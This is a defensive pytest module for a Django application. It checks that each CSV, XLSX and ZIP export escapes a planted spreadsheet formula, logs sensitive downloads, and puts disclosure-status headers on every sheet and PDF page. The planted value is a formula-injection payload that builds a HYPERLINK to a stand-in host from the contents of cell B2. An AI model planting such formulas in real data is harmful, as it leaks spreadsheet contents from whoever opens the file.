"""Every CSV, XLSX and PDF download, walked with a formula planted in text someone typed.

Each export below gets the same formula in a field it shows; the file that comes back must hold it only as
text a spreadsheet will not run. Every file must also begin with its header block (what it is, the area or
provider, the period, the grouping, when it was made) and say on every sheet and page whether it is
"Not for publication: unsuppressed figures" or "Disclosure-controlled". Source checks keep every writer on
the one module that escapes and every export on the one helper that writes the header.
"""

import ast
import csv
import datetime
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from pypdf import PdfReader

from waymark.accounts.factories import make_persona, verified_login
from waymark.core.choices import ExportKind
from waymark.core.factories import OrganisationFactory
from waymark.core.file_headers import split_file_header
from waymark.core.models import ExportLog
from waymark.core.roles import Role
from waymark.directory.factories import FundingSourceFactory, ServiceFactory
from waymark.monitoring.tests.pages_fixtures import borough  # noqa: F401 (a fixture an export below uses)
from waymark.network.factories_events import EventFactory, QuestionFactory, SurveyFactory, TicketTypeFactory
from waymark.network.factories_meetings import ContactFactory
from waymark.network.models import QuestionKind, SurveyInvitation, SurveyStatus
from waymark.network.services import events as services_events
from waymark.network.services import surveys as services_surveys
from waymark.voice.factories_escalations import EscalationFactory

pytestmark = pytest.mark.django_db

PLANTED = '=HYPERLINK("http://example.invalid/?"&B2,"Open the full report")'
WAYMARK = Path(__file__).resolve().parent.parent / "waymark"
NOT_FOR_PUBLICATION = "Not for publication: unsuppressed figures"
DISCLOSURE_CONTROLLED = "Disclosure-controlled"


@dataclass(frozen=True)
class Export:
    """One download: how to plant the formula, the request that fetches the file, and the kind of row it
    leaves in the export log (personal data and unsuppressed figures), if any."""

    plant: Callable[[pytest.FixtureRequest], tuple[str, dict[str, str]]]
    method: str = "get"
    persona: str = Role.STAFF
    shows_typed_text: bool = True
    logged_as: str | None = None
    # The status line every sheet and page must carry; None for the files made for other systems to read,
    # each named with its reason in WITHOUT_HEADER.
    status: str | None = DISCLOSURE_CONTROLLED


def _organisations(request):
    OrganisationFactory(name=PLANTED)
    return reverse("core:organisation_list"), {"format": "csv"}


def _services(request):
    ServiceFactory(name=PLANTED)
    return reverse("directory:manage"), {"format": "csv"}


def _hsds_tabular_package(request):
    ServiceFactory(name=PLANTED, organisation=OrganisationFactory(name=PLANTED))
    return reverse("directory:hsds_export_package"), {}


def _fragility_radar(request):
    FundingSourceFactory(
        organisation=OrganisationFactory(name=PLANTED), ends_on=timezone.localdate() + datetime.timedelta(days=40)
    )
    return reverse("directory:fragility"), {"format": "csv"}


def _snapshot(file_format):
    def plant(request):
        from waymark.monitoring.services import publishing
        from waymark.monitoring.tests.pages_fixtures import YEAR

        place = request.getfixturevalue("borough")
        snapshot = publishing.publish_snapshot(
            actor=place.analyst,
            provider=place.provider,
            area=place.area,
            year=YEAR,
            title=PLANTED,  # the title the analyst typed heads the file
            methods_note="How.",
        )
        return reverse("monitoring:snapshot_detail", args=[snapshot.uuid]), {"format": file_format}

    return plant


def _activity_log(file_format):
    def plant(request):
        from waymark.partnership.factories import ActivityFactory

        ActivityFactory(worker=request.node.downloader, venue=PLANTED)
        return reverse("partnership:activity_export"), {"format": file_format}

    return plant


def _who_does_what(request):
    from waymark.partnership.factories import PartnershipFactory, PartnershipMemberFactory

    partnership = PartnershipFactory()
    PartnershipMemberFactory(partnership=partnership, organisation=OrganisationFactory(name=PLANTED))
    return reverse("partnership:partnership_matrix_download", args=[partnership.uuid]), {}


def _evidence_pack(request):
    from waymark.plans.factories import PlanFactory

    plan = PlanFactory(title=PLANTED)
    return reverse("plans:evidence_pack", args=[plan.uuid]), {}


def _voice_report(file_format):
    def plant(request):
        EscalationFactory(responder=OrganisationFactory(name=PLANTED))
        return reverse("voice:report_export"), {"format": file_format}

    return plant


def _voice_report_pdf(request):
    EscalationFactory(responder=OrganisationFactory(name=PLANTED))
    return reverse("voice:report_pdf"), {}


def _plan_report_pdf(request):
    from waymark.plans.factories import PlanFactory

    plan = PlanFactory(title=PLANTED)
    return reverse("plans:public_report_pdf", args=[plan.uuid]), {}


def _provider_dashboard(file_format):
    def plant(request):
        provider = request.getfixturevalue("borough").provider
        provider.name = PLANTED
        provider.save()
        return reverse("monitoring:provider_dashboard", args=[provider.uuid]), {"format": file_format}

    return plant


def _compare_providers(file_format):
    def plant(request):
        provider = request.getfixturevalue("borough").provider
        provider.name = PLANTED
        provider.save()
        return reverse("monitoring:compare_providers_download"), {"format": file_format}

    return plant


def _survey(file_format):
    def plant(request):
        survey = SurveyFactory(status=SurveyStatus.OPEN, anonymous=False)
        question = QuestionFactory(survey=survey, text=PLANTED, kind=QuestionKind.TEXT)
        invitation = SurveyInvitation.objects.create(survey=survey, email="person@example.org")
        services_surveys.submit_response(invitation=invitation, answers={question.pk: PLANTED})
        return reverse("network:survey_results", args=[survey.uuid]), {"format": file_format}

    return plant


def _registrations(request):
    event = EventFactory()
    services_events.register(
        event=event, ticket_type=TicketTypeFactory(event=event), name=PLANTED, email="person@example.org"
    )
    return reverse("network:event_registration_list", args=[event.uuid]), {"format": "csv"}


def _plan_actions(file_format):
    def plant(request):
        from waymark.plans.factories import ActionFactory

        action = ActionFactory(title=PLANTED)
        return reverse("plans:action_export", args=[action.objective.plan.uuid]), {"format": file_format}

    return plant


def _consultations(file_format):
    def plant(request):
        from waymark.partnership.factories import CommunityFactory, ConsultationFactory, ThemeFactory

        ConsultationFactory(title=PLANTED, communities=[CommunityFactory()], themes=[ThemeFactory()])
        return reverse("partnership:consultation_export"), {"format": file_format}

    return plant


def _subject_access(request):
    ContactFactory(name=PLANTED, email="person@example.org")
    return reverse("core:personal_data_export"), {"email": "person@example.org"}


EXPORTS = {
    "organisations CSV": Export(_organisations),
    "services CSV": Export(_services),
    "Open Referral UK tabular package (ZIP of CSVs)": Export(_hsds_tabular_package, status=None),
    "fragility radar CSV": Export(_fragility_radar, logged_as=ExportKind.FUNDING_AMOUNTS, status=NOT_FOR_PUBLICATION),
    "voice intelligence report CSV": Export(_voice_report("csv"), logged_as=ExportKind.VOICE_REPORT),
    "voice intelligence report XLSX": Export(_voice_report("xlsx"), logged_as=ExportKind.VOICE_REPORT),
    # Staff see a provider's figures disclosure-controlled, so their download is not logged; see below.
    "provider dashboard CSV": Export(_provider_dashboard("csv"), shows_typed_text=False),  # figures only
    "provider dashboard XLSX": Export(_provider_dashboard("xlsx")),
    "compare providers CSV": Export(_compare_providers("csv")),
    "compare providers XLSX": Export(_compare_providers("xlsx")),
    "published snapshot CSV": Export(_snapshot("csv")),
    "published snapshot XLSX": Export(_snapshot("xlsx")),
    "survey responses CSV": Export(_survey("csv"), logged_as=ExportKind.SURVEY_RESPONSES, status=NOT_FOR_PUBLICATION),
    "survey responses XLSX": Export(_survey("xlsx"), logged_as=ExportKind.SURVEY_RESPONSES, status=NOT_FOR_PUBLICATION),
    "event registrations CSV": Export(_registrations, logged_as=ExportKind.REGISTRATIONS, status=NOT_FOR_PUBLICATION),
    "plan actions CSV": Export(_plan_actions("csv"), logged_as=ExportKind.PLAN_ACTIONS, status=None),
    "plan actions XLSX": Export(_plan_actions("xlsx"), logged_as=ExportKind.PLAN_ACTIONS, status=None),
    "consultation calendar CSV": Export(
        _consultations("csv"), logged_as=ExportKind.CONSULTATIONS, status=NOT_FOR_PUBLICATION
    ),
    "consultation calendar XLSX": Export(
        _consultations("xlsx"), logged_as=ExportKind.CONSULTATIONS, status=NOT_FOR_PUBLICATION
    ),
    "CDW activity log CSV": Export(_activity_log("csv"), logged_as=ExportKind.CDW_ACTIVITY, status=NOT_FOR_PUBLICATION),
    "CDW activity log XLSX": Export(
        _activity_log("xlsx"), logged_as=ExportKind.CDW_ACTIVITY, status=NOT_FOR_PUBLICATION
    ),
    "who does what XLSX": Export(_who_does_what),
    "PCREF evidence pack (ZIP of a PDF, CSVs and XLSXs)": Export(
        _evidence_pack, shows_typed_text=False, logged_as=ExportKind.PLAN_EVIDENCE_PACK
    ),
    "subject access export": Export(
        _subject_access, method="post", persona=Role.ADMIN, logged_as=ExportKind.SUBJECT_ACCESS, status=None
    ),
}

# PDFs: no cells to plant a formula in, but the same header on every page.
PDFS = {
    "voice intelligence report PDF": Export(_voice_report_pdf),
    "public plan progress report PDF": Export(_plan_report_pdf),
}

# Files without the header block, and why: other systems read them, and a block above the headings would
# break them; or they are a person's own data handed back to them.
WITHOUT_HEADER = {
    "Open Referral UK tabular package (ZIP of CSVs)": "the Open Referral UK standard's tables, for machines",
    "plan actions CSV": "a working file, edited and uploaded again on the plan's import page",
    "plan actions XLSX": "a working file, edited and uploaded again on the plan's import page",
    "subject access export": "a person's own records handed back to them, JSON and CSV for reuse",
}


def _csv_cells(content: bytes) -> Iterator[str]:
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
        yield from row


def _cells(content_type: str, content: bytes) -> Iterator[str]:
    """Every text cell of a CSV, an XLSX (each sheet; a formula cell fails at once) or a ZIP of CSVs."""
    if content_type.startswith("application/vnd.openxmlformats"):
        for sheet in load_workbook(io.BytesIO(content)).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value}"
                    if isinstance(cell.value, str):
                        yield cell.value
    elif content_type == "application/zip":
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for name in archive.namelist():
                if name.endswith(".csv"):
                    yield from _csv_cells(archive.read(name))
    else:
        yield from _csv_cells(content)


def _download(request, export):
    user = make_persona(export.persona)
    request.node.downloader = user  # for the exports of a user's own records
    url, data = export.plant(request)
    client = Client()
    verified_login(client, user)
    response = getattr(client, export.method)(url, data)
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return user, response, content


@pytest.mark.parametrize("name", EXPORTS)
def test_every_export_neutralises_a_planted_formula(request, name):
    export = EXPORTS[name]

    _user, response, content = _download(request, export)

    cells = list(_cells(response["Content-Type"], content))
    assert PLANTED not in cells
    assert not [cell for cell in cells if cell.startswith(("=", "@"))]
    if export.shows_typed_text:
        assert any(cell.startswith("'" + PLANTED) for cell in cells), "the planted text should reach the file"


@pytest.mark.parametrize("name", EXPORTS)
def test_each_export_of_personal_data_or_unsuppressed_figures_writes_one_log_row(request, name):
    export = EXPORTS[name]

    user, _response, _content = _download(request, export)

    logged = list(ExportLog.objects.all())
    if export.logged_as is None:
        assert logged == []
    else:
        (row,) = logged
        assert (row.user, row.kind) == (user, export.logged_as)
        assert row.rows >= 1 and row.description and row.created_at
        assert "format" not in row.filters


def test_an_analyst_downloading_unsuppressed_figures_is_logged_with_the_filters(client, borough):  # noqa: F811
    verified_login(client, borough.analyst)
    url = reverse("monitoring:provider_dashboard", args=[borough.provider.uuid])

    response = client.get(url, {"format": "xlsx", "year": "2024", "confidence": "0.998"})

    assert response.status_code == 200
    (row,) = ExportLog.objects.all()
    assert (row.user, row.kind) == (borough.analyst, ExportKind.UNSUPPRESSED_FIGURES)
    assert "Riverside Mental Health Trust" in row.description
    assert row.filters == {"year": "2024", "confidence": "0.998"}
    assert row.rows > 0


# Files that build CSV or XLSX without core.spreadsheets, and why each may.
NOT_FOR_PEOPLE_TO_OPEN = {
    "core/spreadsheets.py": "the one writer itself",
    "core/demo.py": "writes the demo's population file for the monitoring importer to read",
    "monitoring/factories.py": "builds import files for tests",
}


def test_every_spreadsheet_is_written_by_the_one_writer():
    """Only core.spreadsheets builds CSV or XLSX files for people to open, so no export can skip escaping."""
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(")
    offenders = [
        str(path.relative_to(WAYMARK))
        for path in WAYMARK.rglob("*.py")
        if "tests" not in path.parts
        and str(path.relative_to(WAYMARK)) not in NOT_FOR_PEOPLE_TO_OPEN
        and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _header_blocks(name: str, content_type: str, content: bytes) -> Iterator[tuple[str, list[str]]]:
    """(where, the lines atop it) for every sheet of every file and every page of every PDF the download is."""
    if content_type.startswith("application/vnd.openxmlformats"):
        for sheet in load_workbook(io.BytesIO(content)).worksheets:
            rows = [[cell.value for cell in row] for row in sheet.iter_rows(max_row=8)]
            yield f"{name}, sheet {sheet.title}", split_file_header(rows)[0]
    elif content_type == "application/pdf":
        for number, page in enumerate(PdfReader(io.BytesIO(content)).pages, start=1):
            yield f"{name}, page {number}", page.extract_text().splitlines()
    elif content_type == "application/zip":
        types = {"csv": "text/csv", "xlsx": "application/vnd.openxmlformats", "pdf": "application/pdf"}
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for member in archive.namelist():
                yield from _header_blocks(member, types[member.rpartition(".")[2]], archive.read(member))
    else:
        yield name, split_file_header(_csv_rows(content))[0]


@pytest.mark.parametrize("name", [name for name in EXPORTS | PDFS if name not in WITHOUT_HEADER])
def test_every_export_says_what_it_is_and_whether_it_may_be_published_on_every_sheet_and_page(request, name):
    export = (EXPORTS | PDFS)[name]

    _user, response, content = _download(request, export)

    blocks = list(_header_blocks(name, response["Content-Type"], content))
    assert blocks
    for where, lines in blocks:
        assert export.status in lines, (where, lines)
        other = NOT_FOR_PUBLICATION if export.status == DISCLOSURE_CONTROLLED else DISCLOSURE_CONTROLLED
        assert other not in lines, where
        if "page" in where and not where.endswith("page 1"):
            continue  # a PDF's later pages carry the status line alone
        for label in ("Area or provider: ", "Period: ", "Grouping: ", "Made: "):
            assert any(line.startswith(label) for line in lines), (where, label, lines)


def test_the_exports_without_a_header_are_the_files_named_with_a_reason():
    assert {name for name, export in (EXPORTS | PDFS).items() if export.status is None} == set(WITHOUT_HEADER)


def test_an_analyst_downloading_a_providers_unsuppressed_figures_sees_not_for_publication_on_every_sheet(
    client,
    borough,  # noqa: F811
):
    verified_login(client, borough.analyst)
    url = reverse("monitoring:provider_dashboard", args=[borough.provider.uuid])

    response = client.get(url, {"format": "xlsx"})

    for where, lines in _header_blocks("dashboard", response["Content-Type"], response.content):
        assert lines[-1] == NOT_FOR_PUBLICATION, where
        assert "Area or provider: Riverside Mental Health Trust, people living in Riverside" in lines


# Modules that write CSV, XLSX or PDF files without a header block, and why each may.
HEADERLESS_WRITERS = {
    "core/spreadsheets.py": "the writer itself",
    "core/pdf.py": "the writer itself",
    "core/personal_data.py": "a person's own records handed back to them",
    "directory/hsds/tabular.py": "the Open Referral UK standard's tables, for machines",
    "grants/open_data.py": "the 360Giving standard's sheet, for machines",
    "plans/action_sheets.py": "a working file, uploaded again on the plan's import page",
    "directory/views_public.py": "a member of the public's own shortlist of services, in their language",
    "grants/award_letters.py": "a letter to an applicant, not a file of figures or records",
}


def test_every_file_writer_is_given_a_header_or_named_with_its_reason():
    """Each call of the CSV, XLSX and PDF writers passes ``header=``, unless its module is named above."""
    writers = {"write_csv", "write_xlsx", "stream_csv", "render_pdf", "html_to_pdf"}
    offenders = []
    for path in WAYMARK.rglob("*.py"):
        module = str(path.relative_to(WAYMARK))
        if "tests" in path.parts or module in HEADERLESS_WRITERS:
            continue
        source = path.read_text(encoding="utf-8")
        if "waymark.core.spreadsheets import" not in source and "waymark.core.pdf import" not in source:
            continue  # a data frame's write_csv, say: not a file for people
        for node in ast.walk(ast.parse(source)):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
                name = node.func.id
                if name in writers and not any(keyword.arg == "header" for keyword in node.keywords):
                    offenders.append(f"{module}:{node.lineno} {name}")
    assert offenders == []
